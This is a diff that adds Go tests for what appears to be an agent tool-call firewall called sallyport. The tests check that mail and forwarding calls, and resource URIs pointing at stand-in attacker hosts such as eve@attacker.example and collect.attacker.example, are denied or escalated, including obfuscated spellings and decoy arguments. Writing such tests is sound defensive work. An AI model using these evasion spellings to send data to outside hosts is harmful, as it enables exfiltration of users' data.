@@ -1,0 +1,60 @@
+package sallyport_test
+
+import (
+	"testing"
+
+	"github.com/sallyport-dev/sallyport"
+	"github.com/sallyport-dev/sallyport/policy"
+)
+
+// A trusted value in another argument does not stand in for the sink that is missing.
+func TestATrustedDecoyDoesNotReplaceTheSink(t *testing.T) {
+	s := session(t, sallyport.Options{Contracts: contracts(t, `
+send: {exfiltrating: true, sink_params: [to, cc], trusted_destinations: ["*@corp.example", "docs.corp.example"]}
+nest: {exfiltrating: true, sink_params: ["action.forward", "items[*].email"], trusted_destinations: ["*@corp.example"]}
+`)}, "send", "nest")
+	s.Observe(sallyport.Output{Upstream: "u", Tool: "read", Value: value(t, `"eve@attacker.example"`)})
+	for _, c := range []struct {
+		tool, args string
+		verdict    sallyport.Verdict
+	}{
+		{"send", `{"To":"leaks-external","note":"https://docs.corp.example/"}`, sallyport.Ask},
+		{"send", `{"to":"","reply_to":"ann@corp.example"}`, sallyport.Ask},
+		{"nest", `{"action":{"Forward":"leaks-external"},"from":"ann@corp.example"}`, sallyport.Ask},
+		{"nest", `{"items":"[{\"email\":\"leaks-external\"}]","action":{"forward":"ann@corp.example"}}`, sallyport.Ask},
+		{"nest", `{"items":["leaks-external"],"action":{"forward":"ann@corp.example"}}`, sallyport.Ask},
+		{"nest", `{"action":"{\"forward\":\"eve@attacker.example\"}"}`, sallyport.Deny},
+		{"nest", `{"action":"{\"forward\":\"ann@corp.example\"}"}`, sallyport.Allow},
+		{"send", `{"to":"ann@corp.example","eve@attacker.example":"admin"}`, sallyport.Deny},
+		{"send", `{"cc":"ann@corp.example"}`, sallyport.Allow},
+		{"send", `{"to":"ann@corp.example","note":"https://docs.corp.example/"}`, sallyport.Allow},
+	} {
+		if d := decide(t, s, c.tool, c.args); d.Verdict != c.verdict {
+			t.Errorf("%s %s: %v, want %v: %s", c.tool, c.args, d.Verdict, c.verdict, d.Reason)
+		}
+	}
+}
+
+// A resource is a destination whatever spelling leads its reader to the network.
+func TestResourcesThatLeadToTheNetwork(t *testing.T) {
+	s := session(t, sallyport.Options{})
+	s.Observe(sallyport.Output{Upstream: "u", Tool: "read", Value: value(t, `"https://collect.attacker.example/in"`)})
+	s.Listed("u", []string{"https://own.example/ page"})
+	for uri, verdict := range map[string]sallyport.Verdict{
+		"https://collect.attacker.example/x":   sallyport.Deny,
+		" https://collect.attacker.example/x":  sallyport.Deny,
+		"ht\ttps://collect.attacker.example/x": sallyport.Deny,
+		"//collect.attacker.example/x":         sallyport.Deny,
+		"sftp://collect.attacker.example/x":    sallyport.Deny,
+		"file://collect.attacker.example/x":    sallyport.Deny,
+		"https://new.example/":                 sallyport.Ask,
+		"https://own.example/ page":            sallyport.Allow,
+		"file:///home/u/README.md":             sallyport.Allow,
+		"demo://resource/1":                    sallyport.Allow,
+	} {
+		d := s.Decide(t.Context(), sallyport.Call{Subject: policy.Resource, Upstream: "u", Name: uri})
+		if d.Verdict != verdict {
+			t.Errorf("%q: %v, want %v: %s", uri, d.Verdict, verdict, d.Reason)
+		}
+	}
+}
